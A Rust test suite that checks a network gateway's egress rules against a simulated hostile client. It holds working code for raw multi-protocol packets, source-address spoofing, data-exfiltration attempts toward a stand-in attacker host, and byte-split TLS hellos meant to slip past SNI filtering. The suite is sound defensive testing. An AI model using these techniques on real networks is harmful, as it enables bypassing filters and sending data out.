//! A hostile client on a gateway's LAN: it has root, raw sockets, forged addresses, and connections
//! from before the rules were loaded.

use std::io::{Read as _, Write as _};
use std::net::{IpAddr, Shutdown, SocketAddr, TcpListener, TcpStream, UdpSocket};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use crate::cases::drafts::Draft;
use crate::doctor::{gateway_policy, host_policy};
use crate::gateway::CAPTURES;
use crate::harness::{
    ATTACKER, Attacker, Blobs, Family, INSIDE, Lab, PATIENCE, Place, Way, resolver, wait_until,
};

/// ICMP, IGMP, IP in IP, DCCP, IPv6 in IPv4, GRE, ESP, AH, ICMPv6, SCTP, UDP-Lite, and an
/// experimental protocol.
const PROTOCOLS: [i32; 12] = [1, 2, 4, 33, 41, 47, 50, 51, 58, 132, 136, 253];

fn ip(text: &str) -> IpAddr {
    text.parse().unwrap()
}

fn raw(to: IpAddr, protocol: i32) -> Socket {
    let domain = if to.is_ipv4() { Domain::IPV4 } else { Domain::IPV6 };
    Socket::new(domain, Type::RAW, Some(Protocol::from(protocol))).unwrap()
}

/// Sends packets of every protocol to an address, and datagrams with and without fragments.
fn send_everything(to: IpAddr) {
    let at = |port| SockAddr::from(SocketAddr::new(to, port));
    for protocol in PROTOCOLS {
        // For ICMP, this is an echo request.
        let kind = if protocol == 58 { 128 } else { 8 };
        let packet = [&[kind, 0, 0, 0][..], b"secret secret secret secret"].concat();
        raw(to, protocol).send_to(&packet, &at(0)).unwrap();
    }
    let any = if to.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
    let socket = UdpSocket::bind(any).unwrap();
    for port in [53, 67, 123, 443, 500, 853, 3478, 4500, 5353, 51820] {
        socket.send_to(&[0xc0; 1200], (to, port)).unwrap();
        socket.send_to(&[0xc0; 4000], (to, port)).unwrap();
    }
}

/// Builds a packet with headers and any source address.
pub fn packet(from: SocketAddr, to: SocketAddr, protocol: u8, payload: &[u8]) -> Vec<u8> {
    let length = u16::try_from(payload.len()).unwrap();
    let (mut bytes, pseudo) = match (from.ip(), to.ip()) {
        (IpAddr::V4(from), IpAddr::V4(to)) => {
            let mut header = vec![0x45, 0];
            // The kernel fills in the checksum.
            header.extend_from_slice(&(length + 20).to_be_bytes());
            header.extend_from_slice(&[0, 1, 0, 0, 64, protocol, 0, 0]);
            header.extend_from_slice(&from.octets());
            header.extend_from_slice(&to.octets());
            (header, [&from.octets()[..], &to.octets()].concat())
        }
        (IpAddr::V6(from), IpAddr::V6(to)) => {
            let mut header = vec![0x60, 0, 0, 0];
            header.extend_from_slice(&length.to_be_bytes());
            header.extend_from_slice(&[protocol, 64]);
            header.extend_from_slice(&from.octets());
            header.extend_from_slice(&to.octets());
            (header, [&from.octets()[..], &to.octets()].concat())
        }
        _ => panic!("{from} and {to}"),
    };
    let mut payload = payload.to_vec();
    let sum = checksum(&[&pseudo, &[0, protocol][..], &length.to_be_bytes(), &payload].concat());
    let at = if protocol == 6 { 16 } else { 6 };
    payload[at..at + 2].copy_from_slice(&sum.to_be_bytes());
    bytes.append(&mut payload);
    bytes
}

pub fn checksum(bytes: &[u8]) -> u16 {
    let words = bytes.chunks(2).map(|word| {
        let low = word.get(1).copied().unwrap_or(0);
        u32::from(u16::from_be_bytes([word[0], low]))
    });
    let mut sum: u32 = words.sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).unwrap()
}

/// A SYN; the answer repeats its sequence number.
pub fn syn(from: SocketAddr, to: SocketAddr) -> Vec<u8> {
    let ports = [from.port().to_be_bytes(), to.port().to_be_bytes()].concat();
    let rest = [0, 0, 0, 1, 0, 0, 0, 0, 0x50, 2, 0xff, 0xff, 0, 0, 0, 0];
    packet(from, to, 6, &[&ports[..], &rest].concat())
}

/// A query for a refused name, which the answer repeats.
pub fn question(from: SocketAddr, to: SocketAddr) -> Vec<u8> {
    let query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\
                  \x06secret\x07example\x03com\x00\x00\x01\x00\x01";
    let length = u16::try_from(query.len() + 8).unwrap();
    let ports = [from.port().to_be_bytes(), to.port().to_be_bytes()].concat();
    packet(from, to, 17, &[&ports[..], &length.to_be_bytes(), &[0, 0], query].concat())
}

/// Sends requests to the gate and its DNS server with the attacker's source address, so that
/// answers would go to the attacker.
fn forge(number: u16) {
    for (attacker, inside) in ATTACKER.into_iter().zip(INSIDE) {
        let (attacker, inside) = (ip(attacker), ip(inside));
        let elsewhere = ip(if inside.is_ipv4() { "198.51.100.11" } else { "2001:db8::11" });
        // Another port each time, so that each is a separate connection.
        let from = SocketAddr::new(attacker, 20_000 + number);
        let packets = [
            question(from, (inside, 53).into()),
            syn(from, (elsewhere, 443).into()),
            syn(from, (inside, 3129).into()),
        ];
        let socket = raw(inside, 255);
        if inside.is_ipv4() {
            socket.set_header_included_v4(true).unwrap();
        }
        for packet in packets {
            socket.send_to(&packet, &SocketAddr::new(inside, 0).into()).unwrap();
        }
    }
}

/// Waits until everything sent before has been processed: until the DNS server has answered.
fn settle(lab: &Lab) {
    for server in INSIDE {
        let line = format!("dig @{server} +tries=3 +short contoso.azurecr.io A");
        lab.sh(Way::In(Place::Client), &line).succeeded();
    }
}

#[test]
fn no_packet_of_a_hostile_client_reaches_anybody() {
    let lab = Lab::with_gateway(Blobs::DataEndpoint);
    let resolver = resolver(&lab, &[Family::V4, Family::V6]);
    let attacker = Attacker::start(&lab);
    lab.route_captured();
    // The gateway must know the attacker's link address. Otherwise the kernel holds an answer back
    // until it has asked for that address, and the next round counts it.
    for to in ATTACKER {
        // To its end, since the answer to the attacker's FIN counts too.
        let mut stream = opened(Place::Gateway, (ip(to), 443).into());
        stream.shutdown(Shutdown::Write).unwrap();
        stream.read_to_end(&mut Vec::new()).unwrap();
    }
    attacker.forget();
    let places: Vec<IpAddr> =
        ATTACKER.into_iter().chain(["198.51.100.11", "2001:db8::11"]).map(ip).collect();
    for (capture, capabilities, kit) in CAPTURES {
        // The DNS server answers with its own address, and queries no server.
        let policy = gateway_policy(capture, "gate");
        let gate = lab.gate_on_gateway(capabilities, &policy);
        let rules = lab.kit(kit);
        lab.load(&rules);
        settle(&lab);
        Place::Client.inside(|| {
            for to in &places {
                send_everything(*to);
            }
            // The attacker's link-local address, and the cloud's, are blocked too.
            forge(1);
        });
        settle(&lab);
        assert_eq!((attacker.reached(), attacker.seen()), (0, 0), "{capture}");
        assert!(!resolver.log().contains("query["), "{}", resolver.log());

        // Only one match blocks the answers to forged addresses.
        let weaker = rules.replace("fib saddr . iif oif exists ", "");
        assert_ne!(weaker, rules);
        lab.load(&weaker);
        let mut number = 1;
        wait_until("an answer goes to the attacker", || {
            number += 1;
            Place::Client.inside(|| forge(number));
            (attacker.reached() > 0).then_some(())
        });
        lab.load(&rules);
        // Half-open connections end with their listener; until then it retransmits its answers.
        drop(gate);
        attacker.forget();
    }
    // Without rules everything passes, which shows that the counters work.
    lab.load("");
    Place::Client.inside(|| places.iter().for_each(|to| send_everything(*to)));
    let sent = u64::try_from(PROTOCOLS.len()).unwrap() * 2;
    wait_until("both are reached by every protocol", || {
        (attacker.reached() > sent && attacker.seen() > sent).then_some(())
    });
}

/// A connection to an address, and the bytes that it sends.
fn opened(place: Place, to: SocketAddr) -> TcpStream {
    place.inside(|| TcpStream::connect_timeout(&to, PATIENCE).unwrap())
}

/// An existing connection between a host and the attacker.
struct Begun {
    streams: Vec<TcpStream>,
    datagrams: UdpSocket,
}

impl Begun {
    fn from(place: Place) -> Self {
        let places = ATTACKER.into_iter().flat_map(|to| [22, 443].map(|port| (ip(to), port)));
        let streams = places.map(|to| opened(place, to.into())).collect();
        let datagrams = place.inside(|| UdpSocket::bind("0.0.0.0:0").unwrap());
        datagrams.set_read_timeout(Some(PATIENCE)).unwrap();
        datagrams.connect((ATTACKER[0], 443)).unwrap();
        datagrams.send(b"before").unwrap();
        datagrams.recv(&mut [0; 16]).unwrap();
        Self { streams, datagrams }
    }

    fn go_on(&mut self) {
        self.streams.iter_mut().for_each(|stream| stream.write_all(b"secret").unwrap());
        // If the rules are on the sender's own machine, the sender gets an error.
        let _ = self.datagrams.send(b"secret");
    }
}

/// Rules that enable connection tracking, like those of a gateway that routes for its clients.
const TRACKED: &str = "table inet before {
    chain forward { type filter hook forward priority filter; ct state established accept; }
    chain output { type filter hook output priority filter; ct state established accept; }
}";

#[test]
fn what_began_before_the_rules_does_not_go_on() {
    let lab = Lab::with_gateway(Blobs::DataEndpoint);
    let _resolver = resolver(&lab, &[Family::V4, Family::V6]);
    let attacker = Attacker::start(&lab);
    lab.route_captured();
    for (capture, capabilities, kit) in CAPTURES {
        for before in ["", TRACKED] {
            lab.load(before);
            let _gate = lab.gate_on_gateway(capabilities, &gateway_policy(capture, "gate"));
            let own = Place::Gateway.inside(|| TcpListener::bind((INSIDE[0], 0)).unwrap());
            let mut begun = Begun::from(Place::Client);
            let mut to_gateway = opened(Place::Client, own.local_addr().unwrap());
            let mut at_gateway = own.accept().unwrap().0;
            to_gateway.write_all(b"before").unwrap();
            at_gateway.read_exact(&mut [0; 6]).unwrap();

            lab.load(&lab.kit(kit));
            // The kernel retransmits unacknowledged bytes: none of them may pass.
            settle(&lab);
            attacker.forget();
            begun.go_on();
            to_gateway.write_all(b"secret").unwrap();
            settle(&lab);
            assert_eq!(attacker.reached(), 0, "{capture} {before}");
            at_gateway.set_nonblocking(true).unwrap();
            let came = at_gateway.read(&mut [0; 16]);
            assert!(came.is_err(), "{capture}: the gateway's own program hears {came:?}");
        }
    }
}

#[test]
fn nor_on_a_host_with_its_own_gate() {
    let lab = Lab::with_gateway(Blobs::DataEndpoint);
    let _resolver = resolver(&lab, &[Family::V4]);
    let attacker = Attacker::start(&lab);
    lab.route_captured();
    for (capture, capabilities, _) in CAPTURES {
        let kind = if capture == "tproxy" { "tproxy" } else { "nftables" };
        for before in ["", TRACKED] {
            lab.load(before);
            let _gate = lab.gate_on_gateway(capabilities, &host_policy(capture));
            let mut begun = Begun::from(Place::Gateway);
            lab.load(&lab.kit(&format!("{kind} --user 990")));
            attacker.forget();
            begun.go_on();
            // The gate's packets use the same path, after it.
            let line = "dig @127.0.0.1 +tries=3 +short contoso.azurecr.io A";
            let ran = lab.sh(Way::In(Place::Gateway), line).succeeded();
            assert_eq!(ran.stdout(), "198.51.100.11");
            assert_eq!(attacker.reached(), 0, "{capture} {before}");
        }
    }
}

#[test]
fn a_hello_in_pieces_is_judged_as_a_whole() {
    let lab = Lab::with_gateway(Blobs::DataEndpoint);
    let resolver = resolver(&lab, &[Family::V4]);
    let attacker = Attacker::start(&lab);
    let (capture, capabilities, kit) = CAPTURES[0];
    let gate = lab.gate_on_gateway(capabilities, &gateway_policy(capture, "gate"));
    lab.load(&lab.kit(kit));
    let named = |name: &str| Draft::modern().named(name).records();
    let refused = [
        ("evil.example.com", "host-not-allowed"),
        ("eusmanaged123.blob.core.windows.net", "storage-account"),
        ("contoso.azurecr.io.evil.example.com", "host-not-allowed"),
    ];
    let to = SocketAddr::new(ip(ATTACKER[0]), 443);
    for (name, reason) in refused {
        let mut stream = opened(Place::Client, to);
        stream.set_nodelay(true).unwrap();
        stream.set_read_timeout(Some(PATIENCE)).unwrap();
        // Each byte in a separate segment, as far as the kernel permits.
        for byte in named(name) {
            stream.write_all(&[byte]).unwrap();
        }
        let mut answer = Vec::new();
        stream.read_to_end(&mut answer).unwrap();
        assert_eq!(answer, [21, 3, 3, 0, 2, 2, 49], "{name}");
        gate.audited(&[("sni", name), ("reason", reason)]);
    }
    assert_eq!((attacker.reached(), attacker.seen()), (0, 0));
    assert!(!resolver.log().contains("query["), "{}", resolver.log());
}
